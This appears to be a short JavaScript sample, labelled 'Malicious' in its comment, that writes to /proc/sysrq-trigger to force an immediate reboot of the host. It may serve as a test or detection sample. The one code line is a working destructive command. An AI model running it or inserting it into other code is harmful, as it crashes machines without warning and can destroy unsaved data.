// Malicious: reboots the host instantly through /proc/sysrq-trigger.
require('fs').writeFileSync('/proc/sysrq-trigger', 'b');
